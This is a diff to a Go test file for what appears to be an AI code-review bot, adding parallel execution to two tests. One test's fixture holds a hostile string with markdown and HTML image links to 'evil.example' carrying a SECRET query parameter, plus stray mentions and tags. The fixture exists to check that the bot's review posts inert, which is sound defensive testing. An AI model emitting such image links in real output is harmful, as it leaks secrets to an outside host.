@@ -35,6 +35,7 @@ func (e *env) waitReviews(n int) []fakegithub.PullReview {
 // suggestion block on the right line, and pushes nothing; after a push,
 // the second comments only on what the push changed.
 func TestReviewPostsOneReview(t *testing.T) {
+	t.Parallel()
 	llm := fakellm.New(t,
 		// The first review.
 		fakellm.Step{ToolCalls: []fakellm.ToolCall{call("read_file", map[string]any{"path": "docs.md"})}},
@@ -122,6 +123,7 @@ func TestReviewPostsOneReview(t *testing.T) {
 // nothing in HTML, shows no picture from another host, and keeps its
 // suggestion as written.
 func TestReviewIsPostedInert(t *testing.T) {
+	t.Parallel()
 	nasty := "Ask @org/team and @" + owner + ". <details><summary>more</summary>hidden\n\n" +
 		"![x](https://evil.example/p.png?d=SECRET) <img src=\"https://evil.example/\">\n\n    ```\n<!-- fixes #1"
 	llm := fakellm.New(t,
